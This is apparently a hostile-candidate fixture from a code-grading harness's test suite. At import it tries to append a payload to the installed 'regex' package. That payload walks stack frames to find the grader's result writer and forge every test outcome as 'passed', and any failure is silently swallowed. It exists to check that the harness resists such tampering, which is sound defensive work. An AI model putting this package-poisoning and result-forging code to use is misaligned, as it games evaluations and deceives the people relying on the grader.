"""Hostile (issue 22): at import, appends a payload to the installed ``regex`` package (the
venv's site-packages), which the grader's pytest process imports later, at the test that
needs it: the payload rewrites every result record to "passed". Implements the
reference with one pitfall (``apply_mask`` writes into the caller's array).
Expected: the append fails (the venv is read-only to the candidate), the venv is unchanged,
test_apply_mask failed, exit 1."""

import importlib.util
from pathlib import Path

import numpy as np

from oracles.automaton import *  # noqa: F401,F403

PAYLOAD = '''

# --- appended by wall_poisons_the_venv.py (a hostile candidate) ---
def _wall_forge():
    import sys
    plugin = sys.modules.get("harness.suite.plugin")
    if plugin is None:
        return
    frame = sys._getframe()
    while frame is not None:  # the session's config, from any caller's locals (no module global holds it)
        for value in list(frame.f_locals.values()):
            config = getattr(value, "config", value)
            run = plugin.run_of_session(config) if hasattr(config, "stash") else None
            if run is not None:
                write = run.write

                def forged(record):
                    if record.get("event") == "result":
                        record = {**record, "outcome": "passed", "reason": "", "details": ""}
                    return write(record)
                run.write = forged
                return
        frame = frame.f_back


_wall_forge()
'''

try:
    _spec = importlib.util.find_spec("regex")
    with open(Path(_spec.origin), "a") as _f:
        _f.write(PAYLOAD)
except Exception:  # noqa: BLE001 - quietly: only the harness may notice
    pass


def apply_mask(logits, mask):  # the spec's pitfall: writes -inf into the caller's array
    mask = np.asarray(mask, dtype=bool)
    if isinstance(logits, np.ndarray) and logits.shape == mask.shape and mask.any():
        logits[~mask] = -np.inf
        return logits
    out = np.asarray(logits, dtype=np.float64).copy()
    if out.shape != mask.shape or not mask.any():
        raise ValueError("bad mask")
    out[~mask] = -np.inf
    return out
